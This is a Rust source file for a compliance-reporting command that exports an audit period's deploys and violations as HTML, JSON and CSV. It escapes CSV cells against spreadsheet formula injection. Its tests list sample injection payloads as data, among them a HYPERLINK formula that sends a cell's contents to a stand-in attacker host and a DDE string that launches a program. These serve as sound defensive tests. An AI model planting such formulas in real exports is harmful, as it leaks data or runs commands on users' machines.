//! `vigil report`: an audit period from the archive as HTML (figures,
//! charts, and each deploy's trace back to commit, pull request, reviewers,
//! CI runs and change approval), plus the same data as CSV and JSON.

use std::collections::BTreeMap;
use std::io::Write;
use std::path::{Path, PathBuf};

use serde::Serialize;

use crate::archive::{self, EVIDENCE, VIOLATIONS};
use crate::evidence::EvidenceRecord;
use crate::violation::Violation;

/// What to report on.
pub struct ReportOptions {
    pub archive: PathBuf,
    pub from: chrono::NaiveDate,
    /// Inclusive.
    pub to: chrono::NaiveDate,
    pub service: Option<String>,
    pub out: PathBuf,
}

/// The period's figures (report.json holds these and every deploy).
#[derive(Debug, Default, Serialize)]
pub struct Summary {
    pub from: String,
    pub to: String,
    pub service: Option<String>,
    pub deploys: usize,
    pub compliant_deploys: usize,
    pub violations: usize,
    pub violations_by_control: BTreeMap<String, usize>,
    /// service → (deploys, compliant deploys)
    pub deploys_by_service: BTreeMap<String, (usize, usize)>,
    /// date → (deploys, compliant deploys)
    pub deploys_by_day: BTreeMap<String, (usize, usize)>,
}

/// Reads the archive, writes report.html, report.json, deploys.csv and
/// violations.csv into `out`; returns the summary and the files.
pub fn run(o: &ReportOptions) -> anyhow::Result<(Summary, Vec<PathBuf>)> {
    let progress = |step: usize, what: &str| {
        let bar = "#".repeat(step * 5) + &" ".repeat((4 - step) * 5);
        eprint!("\rreport [{bar}] {what:<40}");
        let _ = std::io::stderr().flush();
    };
    progress(0, "reading evidence");
    let day = |ms: i64| chrono::DateTime::from_timestamp_millis(ms).map(|t| t.date_naive());
    let in_period = |ms: i64, service: &str| {
        day(ms).is_some_and(|d| d >= o.from && d <= o.to) && o.service.as_deref().is_none_or(|s| s == service)
    };
    let mut deploys: Vec<EvidenceRecord> = Vec::new();
    for row in archive::read::<EvidenceRecord>(&o.archive, EVIDENCE)? {
        let r = row.value.map_err(|e| anyhow::anyhow!("{}:{}: {e}", row.file.display(), row.row))?;
        if in_period(r.event_time, &r.service) {
            deploys.push(r);
        }
    }
    deploys.sort_by(|a, b| (a.event_time, &a.deploy_id).cmp(&(b.event_time, &b.deploy_id)));
    progress(1, "reading violations");
    // The violations table is a changelog by id: the last record wins.
    let mut latest: BTreeMap<String, Violation> = BTreeMap::new();
    for row in archive::read::<Violation>(&o.archive, VIOLATIONS)? {
        let v = row.value.map_err(|e| anyhow::anyhow!("{}:{}: {e}", row.file.display(), row.row))?;
        latest.insert(v.id.clone(), v);
    }
    let violations: Vec<Violation> =
        latest.into_values().filter(|v| v.status == "open" && in_period(v.event_time, &v.service)).collect();
    progress(2, "summarising");
    let mut s = Summary {
        from: o.from.to_string(),
        to: o.to.to_string(),
        service: o.service.clone(),
        deploys: deploys.len(),
        compliant_deploys: deploys.iter().filter(|d| d.compliant).count(),
        violations: violations.len(),
        ..Summary::default()
    };
    for v in &violations {
        *s.violations_by_control.entry(v.control_id.clone()).or_default() += 1;
    }
    for d in &deploys {
        let by_service = s.deploys_by_service.entry(d.service.clone()).or_default();
        by_service.0 += 1;
        by_service.1 += usize::from(d.compliant);
        let date = day(d.event_time).map(|d| d.to_string()).unwrap_or_default();
        let by_day = s.deploys_by_day.entry(date).or_default();
        by_day.0 += 1;
        by_day.1 += usize::from(d.compliant);
    }
    progress(3, "writing HTML, CSV and JSON");
    std::fs::create_dir_all(&o.out).map_err(|e| anyhow::anyhow!("{}: {e}", o.out.display()))?;
    let write = |name: &str, text: String| -> anyhow::Result<PathBuf> {
        let path = o.out.join(name);
        std::fs::write(&path, text).map_err(|e| anyhow::anyhow!("{}: {e}", path.display()))?;
        Ok(path)
    };
    let json = serde_json::json!({ "summary": &s, "deploys": &deploys, "violations": &violations });
    let files = vec![
        write("report.json", serde_json::to_string_pretty(&json)? + "\n")?,
        write("deploys.csv", deploys_csv(&deploys))?,
        write("violations.csv", violations_csv(&violations))?,
        write("report.html", crate::report_html::render(&s, &deploys))?,
    ];
    progress(4, "done");
    eprintln!();
    Ok((s, files))
}

/// A CSV field, quoted when it must be, and never a formula: names,
/// titles and ticket text come from anyone who can open a pull request or
/// a ticket, and a cell that starts with `=`, `+`, `-`, `@`, a tab or a
/// carriage return (or their full-width forms, after any spaces) is run by
/// a spreadsheet. Such a cell gets a leading `'` and quotes, as OWASP's
/// CSV-injection guidance says; report.json keeps the value exact.
pub(crate) fn csv(field: &str) -> String {
    const LIVE: [char; 10] = ['=', '+', '-', '@', '\t', '\r', '\u{FF1D}', '\u{FF0B}', '\u{FF0D}', '\u{FF20}'];
    let live = field.starts_with(LIVE) || field.trim_start_matches(' ').starts_with(LIVE);
    if live {
        format!("\"'{}\"", field.replace('"', "\"\""))
    } else if field.contains([',', '"', '\n', '\r']) {
        format!("\"{}\"", field.replace('"', "\"\""))
    } else {
        field.to_string()
    }
}

fn time(ms: i64) -> String {
    crate::decode::format_ms(ms)
}

fn deploys_csv(deploys: &[EvidenceRecord]) -> String {
    let mut out = String::from(
        "deploy_id,service,environment,time,status,compliant,commit_sha,pull_request,pr_author,reviewers,change_id,change_approver,deployer,violations,evidence_id,hash\n",
    );
    for d in deploys {
        let fields = [
            d.deploy_id.clone(),
            d.service.clone(),
            d.environment.clone(),
            time(d.event_time),
            d.status.clone(),
            d.compliant.to_string(),
            d.commit_sha.clone(),
            d.pull_request.clone().unwrap_or_default(),
            d.pr_author.clone().unwrap_or_default(),
            d.reviewers.join("; "),
            d.change_id.clone().unwrap_or_default(),
            d.change_approver.clone().unwrap_or_default(),
            d.deployer.clone(),
            d.violations.join("; "),
            d.evidence_id.clone(),
            d.hash.clone(),
        ];
        out.push_str(&fields.iter().map(|f| csv(f)).collect::<Vec<_>>().join(","));
        out.push('\n');
    }
    out
}

fn violations_csv(violations: &[Violation]) -> String {
    let mut out = String::from("id,control_id,severity,service,subject,time,late,message\n");
    for v in violations {
        let fields = [
            &v.id,
            &v.control_id,
            &v.severity,
            &v.service,
            &v.subject,
            &time(v.event_time),
            &v.late.to_string(),
            &v.message,
        ];
        out.push_str(&fields.iter().map(|f| csv(f)).collect::<Vec<_>>().join(","));
        out.push('\n');
    }
    out
}

/// Parses `YYYY-MM-DD` for --from/--to.
pub fn parse_date(text: &str) -> Result<chrono::NaiveDate, String> {
    chrono::NaiveDate::parse_from_str(text, "%Y-%m-%d").map_err(|e| format!("`{text}`: {e}; write YYYY-MM-DD"))
}

/// Whether `path` looks like an archive.
pub fn is_archive(path: &Path) -> bool {
    path.join(EVIDENCE).is_dir()
}

#[cfg(test)]
mod tests {
    use super::csv;

    #[test]
    fn a_csv_cell_is_quoted_when_it_must_be() {
        assert_eq!(csv("payments"), "payments");
        assert_eq!(csv("a,b"), "\"a,b\"");
        assert_eq!(csv("say \"hi\""), "\"say \"\"hi\"\"\"");
        assert_eq!(csv("two\nlines"), "\"two\nlines\"");
        assert_eq!(csv("2026-01-01T00:00:00Z"), "2026-01-01T00:00:00Z");
    }

    #[test]
    fn a_csv_cell_is_never_a_formula() {
        let attacks = [
            "=HYPERLINK(\"https://evil.example/?\"&A1,\"click\")",
            "+1+cmd|' /C calc'!A0",
            "-2+3",
            "@SUM(A1:A9)",
            "\t=1+1",
            "\r=1+1",
            "  =1+1",
            "\u{FF1D}1+1",
        ];
        for attack in attacks {
            let cell = csv(attack);
            assert!(cell.starts_with("\"'"), "{attack:?} written as {cell:?}");
            // The value itself is kept, after the quote, quotes doubled.
            assert_eq!(cell[2..cell.len() - 1].replace("\"\"", "\""), attack);
        }
        assert_eq!(csv("alice=bob"), "alice=bob");
    }
}
